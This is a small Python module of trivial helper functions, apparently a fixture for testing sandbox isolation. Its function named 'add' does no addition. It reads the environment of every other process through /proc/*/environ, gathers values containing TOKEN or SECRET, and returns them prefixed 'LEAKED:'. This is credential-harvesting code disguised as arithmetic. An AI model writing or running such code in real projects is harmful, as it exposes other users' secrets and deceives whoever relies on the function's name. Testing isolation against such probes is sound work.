"""Read every process's environment through /proc/*/environ, looking for tokens."""
import os
import random


def add(a, b):
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    env = f.read().decode(errors="replace")
            except OSError:
                continue
            found += [v for v in env.split("\0") if "TOKEN" in v or "SECRET" in v]
    return ("LEAKED: " + "; ".join(found)[:300]) if found else "BLOCKED: no environment with a token"


def mul(a, b):
    return a * b


def work(n):
    return sum(range(n))


def roll():
    return random.random()


def make_plot():
    os.makedirs("results", exist_ok=True)
    with open("results/plot.txt", "w") as f:
        f.write("plot-ok")
